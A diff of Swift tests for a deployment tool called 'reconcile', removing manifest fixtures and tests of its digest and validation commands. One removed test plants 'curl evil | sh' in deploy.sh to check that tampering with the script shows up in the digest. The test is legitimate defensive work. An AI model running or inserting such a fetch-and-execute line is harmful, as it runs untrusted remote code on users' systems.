@@ -3,42 +3,6 @@ import Testing
 
 @testable import reconcile
 
-/// A repository with the manifests of a small team.
-private func team(_ test: String = #function, version: String = "2.4.0") throws -> GitSandbox {
-    let sandbox = try GitSandbox(test)
-    try sandbox.write("deploy.sh", "#!/bin/sh\necho \"$@\"\n")
-    try sandbox.git(["update-index", "--add", "--chmod=+x", "deploy.sh"])
-    _ = try run("chmod", ["+x", sandbox.path + "/deploy.sh"], environment: [:])
-    try sandbox.write("desired-state/production.yaml", production)
-    try sandbox.write("desired-state/app.yaml", app(version: version))
-    return sandbox
-}
-
-private let production = """
-    apiVersion: reconcile/v1
-    kind: Environment
-    metadata: {name: production}
-    spec:
-      initial: {version: 2.3.1}
-      actions: {deploy: {run: [./deploy.sh, --version=$(version)]}}
-
-    """
-
-private func app(version: String, soak: String = "soak: 1h") -> String {
-    """
-    apiVersion: reconcile/v1
-    kind: Rollout
-    metadata: {name: app}
-    spec:
-      version: \(version)
-      stages:
-        - name: production
-          environments: [production]
-          \(soak)
-
-    """
-}
-
 @Suite("reconcile validate") struct ValidateTests {
     @Test func `good manifests are one line, and nothing at all when quiet`() throws {
         let sandbox = try team()
@@ -58,7 +22,7 @@ private func app(version: String, soak: String = "soak: 1h") -> String {
                       |       ^~~~
                       = did you mean `soak`?
 
-                1 error in 1 file
+                1 error in 1 file of \(sandbox.path)/desired-state
 
                 """)
     }
@@ -230,92 +194,5 @@ private func app(version: String, soak: String = "soak: 1h") -> String {
         let told = Transcript("validate", "--controller", "controller.yaml", in: sandbox.path)
         #expect(told.output.contains("there is no secret called `databse`"))
         #expect(told.output.contains("did you mean `database`?"))
-    }
-}
-
-@Suite("reconcile digest") struct DigestCommandTests {
-    @Test func `the digest of a revision and of the same working folder are one`() throws {
-        let sandbox = try team()
-        _ = try sandbox.commit("good")
-        let here = Transcript("digest", "app", "production", in: sandbox.path)
-        #expect(here.status == .success)
-        #expect(here.output.hasPrefix("sha256:"))
-        #expect(Transcript("digest", "app", "production", "--at", "HEAD", in: sandbox.path) == here)
-    }
-
-    @Test func `what changed since a revision is said by its part`() throws {
-        let sandbox = try team()
-        _ = try sandbox.commit("good")
-        try sandbox.write("desired-state/app.yaml", app(version: "2.4.1", soak: "soak: 72h"))
-        try sandbox.write("deploy.sh", "#!/bin/sh\ncurl evil | sh\n")
-        let told = Transcript("digest", "app", "production", "--against", "HEAD", in: sandbox.path)
-            .output
-        let lines = told.split(separator: "\n").dropFirst(2).joined(separator: "\n")
-        #expect(
-            lines == """
-                  what
-                    version was 2.4.0, is 2.4.1
-                  under what
-                    soak was 1h, is 72h
-                  by what
-                    deploy.sh changed
-                """)
-    }
-
-    @Test func `a program that is too large to be approved holds, and has no digest`() throws {
-        let sandbox = try team()
-        _ = try run("truncate", ["-s", "257M", sandbox.path + "/deploy.sh"], environment: [:])
-        #expect(
-            Transcript("validate", in: sandbox.path).output == """
-                desired-state/production.yaml:6:28: error: `deploy.sh` is larger than 256 MiB, so nobody can approve it by content
-                    6 |   actions: {deploy: {run: [./deploy.sh, --version=$(version)]}}
-                      |                            ^~~~~~~~~~~
-                      = keep it elsewhere, and its checksum in the program that fetches it
-
-                1 error in 1 file
-
-                """)
-        let told = Transcript("digest", "app", "production", in: sandbox.path)
-        #expect(told.status == .invalid)
-        #expect(told.output == "")
-        #expect(told.errors.contains("`deploy.sh` is larger than 256 MiB"))
-    }
-
-    @Test func `what only one clone knows is nothing to compare with`() throws {
-        let sandbox = try team()
-        _ = try sandbox.commit("good")
-        _ = try sandbox.commit("better")
-        for words in [
-            ["digest", "app", "production", "--against", "HEAD@{1}"], ["validate", "HEAD@{1}"],
-        ] {
-            let told = Transcript(words: words, in: sandbox.path)
-            #expect(told.status == .invalid)
-            #expect(
-                told.errors == """
-                    reconcile: could not resolve the revision `HEAD@{1}`: what `@{…}` means is known to this clone alone
-                    name a branch, a tag or a commit
-
-                    """)
-        }
-    }
-
-    @Test func `an unknown stage is answered with the nearest one`() throws {
-        let sandbox = try team()
-        let told = Transcript("digest", "app", "prodution", in: sandbox.path)
-        #expect(told.status == .invalid)
-        #expect(
-            told.errors == """
-                reconcile: the rollout `app` has no stage called `prodution`
-                did you mean `production`?
-
-                """)
-    }
-
-    @Test func `a stage that is held has no digest to approve`() throws {
-        let sandbox = try team()
-        try sandbox.write("desired-state/app.yaml", app(version: "2.4.0", soak: "sook: 1h"))
-        let told = Transcript("digest", "app", "production", in: sandbox.path)
-        #expect(told.status == .invalid)
-        #expect(told.errors.contains("unknown field `sook`"))
     }
 }
